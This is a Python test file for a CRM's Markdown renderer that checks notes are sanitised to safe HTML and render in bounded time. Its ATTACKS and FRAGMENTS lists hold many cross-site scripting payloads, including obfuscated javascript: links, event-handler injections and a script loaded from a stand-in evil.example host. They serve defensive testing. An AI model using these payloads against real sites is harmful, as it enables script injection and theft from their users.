"""Notes in Markdown: what they may become, and that nothing else ever comes out."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from crm.web.markdown import LONGEST, LONGEST_PARAGRAPH, MOST_ADDRESSES, markdown
from tests.counts import counts

pytestmark = pytest.mark.once

TAGS = set("p br strong em s a ul ol li blockquote pre code hr table thead tbody tr th td".split())
ATTRIBUTES = {
    "a": {"href", "class", "rel", "target", "title"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"class"},
    "td": {"class"},
}
SAFE = re.compile(r"(https?://|mailto:|tel:)", re.IGNORECASE)
CLASS = re.compile(r"link|is-(left|center|right)|language-\S*")


def nodes(text: str) -> list[LexborNode]:
    """What a browser's parser makes of a note that stands in a page."""
    page = LexborHTMLParser(f"<main><div id=note>{markdown(text)}</div><p id=after></p></main>")
    [note], [after] = page.css("main > #note"), page.css("main > #after")
    assert after.prev == note
    return note.css("#note *")


def check(text: str) -> None:
    for node in nodes(text):
        assert node.tag in TAGS, node.html
        attributes = dict(node.attributes)
        assert set(attributes) <= ATTRIBUTES.get(str(node.tag), set()), node.html
        if "class" in attributes:
            assert CLASS.fullmatch(attributes["class"] or ""), node.html
        if node.tag == "a":
            assert SAFE.match(attributes["href"] or ""), node.html
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert not node.css("a a")


def shown(text: str) -> str:
    """The HTML without what every link has."""
    return re.sub(r' class="link" rel="[^"]*"( target="_blank")?', "", markdown(text)).strip()


#: One a line; ⏎ is a line break within it.
ATTACKS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<iframe src="javascript:alert(1)"></iframe>
<a href="javascript:alert(1)">x</a>
<style>@import '//evil.example'</style>
<!--><img src=x onerror=alert(1)>-->
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?>
</div></main><script>alert(1)</script>
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](java\tscript:alert(1))
[x](&#x6A;avascript:alert(1))
[x](&#0000106avascript:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](\x01javascript:alert(1))
[x]( javascript:alert(1) )
[x](<javascript:alert(1)>)
[x](vbscript:msgbox(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](data:image/png;base64,AAAA)
[x](file:///etc/passwd)
[x](ftp://evil.example/)
[x](//evil.example/)
[x](/sign-out)
[x](?delete=1)
[x](http:javascript:alert(1))
[x](https:\\\\evil.example)
[x](https://a.example" onmouseover="alert(1))
[x](https://a.example 'x" onclick="alert(1)')
[x](https://a.example "x\\" onclick=alert(1) y=\\"")
[x][y]⏎⏎[y]: javascript:alert(1)
[y]: data:text/html,x⏎⏎[y]
<javascript:alert(1)>
<data:text/html,x>
<https://a.example/"onclick="alert(1)>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,AAAA)
![x" onerror="alert(1)](https://a.example/x.png)
![x](https://a.example/x.png "x\\" onerror=\\"alert(1)")
[![x](javascript:alert(1))](javascript:alert(2))
[![x](https://a.example/x.png)](https://a.example)
[a [b](https://a.example) c](https://b.example)
https://a.example/"onclick="alert(1)
https://a.example/<script>alert(1)</script>
www.a.example/"><script>alert(1)</script>
"><script>alert(1)</script>@a.example
javascript://a.example/%0aalert(1)
```"><script>alert(1)</script>⏎x⏎```
``` x" onclick="alert(1)⏎x⏎```
`<script>alert(1)</script>`
|a|b|⏎|-|:-:|⏎|<script>alert(1)</script>|<b onclick=alert(1)>|
# <script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
\\<script>alert(1)\\</script>
{{ request }} {% csrf_token %}
1. <script>⏎2. [x](javascript:alert(1)⏎)
> <script>⏎> alert(1)</script>
\u202e<script>\u2028alert(1)</script>
"""


@pytest.mark.parametrize("attack", ATTACKS.strip().split("\n"))
def test_an_attack_stays_words(attack: str) -> None:
    attack = attack.replace("⏎", "\n")
    check(attack)
    check(f"a {attack} b")
    check(f"> - {attack}")


FRAGMENTS = [
    *"*_`~[]()<>!#|-+=:.\\\"'& \n\t1x",
    *("**", "](", "![", "[x](", "://", "\n\n", "    ", "```", "\n> ", "\n- ", "\n1. ", "\n|-|-|\n"),
    *("<script>", "</script>", "<img src=x onerror=alert(1)>", "<a href=", "<!--", "-->", "</dd>"),
    *("javascript:", "JAVASCRIPT:", "data:text/html,", "vbscript:", "file://", "//a.example"),
    *("http://", "https://a.example", "www.a.example", "a@a.example", "mailto:", "tel:+1"),
    *("&#106;", "&colon;", "&quot;", "&lt;", "&NewLine;", "&Tab;", "\x00", "\x01", "\u2028", "é"),
    *(' onclick="alert(1)"', '"title"', "[x]: ", "style=", "[x]", "|a|b|\n|:-|-:|\n|c|"),
]


@given(st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=5), max_size=40).map("".join))
def test_whatever_is_typed_no_script_comes_out(text: str) -> None:
    check(text)


@given(st.text(st.sampled_from("ab c\nä,€"), max_size=200))
def test_plain_words_stay_as_they_were_typed(text: str) -> None:
    note = LexborHTMLParser(f"<main>{markdown(text)}</main>")
    [main] = note.css("main")
    assert main.text().split() == text.split()
    assert not [node for node in main.css("main *") if node.tag not in ("p", "br", "pre", "code")]


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>"),
        (
            "**bold** _slanted_ ~~gone~~",
            "<p><strong>bold</strong> <em>slanted</em> <s>gone</s></p>",
        ),
        ("# Big\n\nUnder\n---", "<p><strong>Big</strong></p>\n<p><strong>Under</strong></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```\na\n```", "<pre><code>a\n</code></pre>"),
        ("[us](https://a.example/x)", '<p><a href="https://a.example/x">us</a></p>'),
        ("[call](tel:+1415)", '<p><a href="tel:+1415">call</a></p>'),
        ("see www.a.example.", '<p>see <a href="http://www.a.example">www.a.example</a>.</p>'),
        (
            "https://a.example/a_b_",
            '<p><a href="https://a.example/a_b_">https://a.example/a_b_</a></p>',
        ),
        ("Ann <ann@a.example>", '<p>Ann <a href="mailto:ann@a.example">ann@a.example</a></p>'),
        ("to ann@a.example", '<p>to <a href="mailto:ann@a.example">ann@a.example</a></p>'),
        ("Call back.It is new", "<p>Call back.It is new</p>"),
        ("a.example/readme.md", "<p>a.example/readme.md</p>"),
        ("![Plan](https://a.example/p.png)", '<p><a href="https://a.example/p.png">Plan</a></p>'),
        (
            "![](https://a.example/p)",
            '<p><a href="https://a.example/p">https://a.example/p</a></p>',
        ),
        (
            "[![Plan](https://a.example/p.png)](https://b.example)",
            '<p><a href="https://b.example">Plan</a></p>',
        ),
        ("[x](/sign-out)", "<p>[x](/sign-out)</p>"),
        ("", ""),
    ],
)
def test_what_markdown_becomes(typed: str, expected: str) -> None:
    assert shown(typed) == expected


def test_a_link_to_the_web_opens_beside_the_page_and_others_do_not() -> None:
    web, mail = markdown("https://a.example"), markdown("a@a.example")
    assert 'rel="noopener noreferrer nofollow" target="_blank"' in web
    assert "target" not in mail


def test_a_table_says_its_alignment_by_classes() -> None:
    table = markdown("|Item|Price|\n|:-|-:|\n|Box|12|")
    assert '<th class="is-left">Item</th>' in table
    assert '<td class="is-right">12</td>' in table
    assert "style" not in table


# What is written to cost the parser its time.


def test_a_paragraph_too_long_is_shown_as_typed_and_the_others_are_not() -> None:
    long = "**a** <b>\n" * (LONGEST_PARAGRAPH // 10 + 1)
    text = shown(f"{long}\n\n**short**")
    assert "**a** &lt;b&gt;<br>\n**a**" in text
    assert text.endswith("<p><strong>short</strong></p>")


def test_so_is_one_with_too_many_addresses() -> None:
    few, many = "**a** x:// " * MOST_ADDRESSES, "**a** x:// " * (MOST_ADDRESSES + 1)
    assert "<strong>" in markdown(few)
    assert "<strong>" not in markdown(many)


def test_and_a_text_too_long() -> None:
    assert markdown("**a**\n" + "b" * LONGEST).startswith("<p>**a**<br>b")


def test_a_table_fills_no_more_cells_than_a_reader_has_eyes_for() -> None:
    wide = "|" + "a|" * 200 + "\n|" + "-|" * 200 + "\n" + "a\n" * 100
    assert "<table>" not in markdown(wide)
    assert "<table>" in markdown("|a|b|\n|-|-|\n" + "|c|d|\n" * 200)


COSTLY = [
    *("[*", "![", "1) a\n", "a\n=\n", "|a\n|-\n", "http://a("),
    *("[", "[](", "[a](b", "*a **b ", "_a", "`", "``a`", "~~a", "<", "&", "\\", "[a]: b\n"),
    *("://", "a://", "www.", "a@", "a@b.example ", "mailto:", "(http://"),
    *("> ", "- ", "```\n", "- > ", "![[[]()"),
]


@pytest.mark.parametrize("mark", COSTLY[: counts(6, len(COSTLY))])
def test_no_note_is_dear_to_show(mark: str) -> None:
    paragraph = (mark * LONGEST)[: LONGEST_PARAGRAPH - 10]
    for note in (mark * LONGEST, f"{paragraph}\n\n" * 7):
        started = time.process_time()
        made = markdown(note[:LONGEST])
        # A tenth of this, mostly; without the limits some take as much.
        assert time.process_time() - started < 3
        assert len(made) < 15 * LONGEST
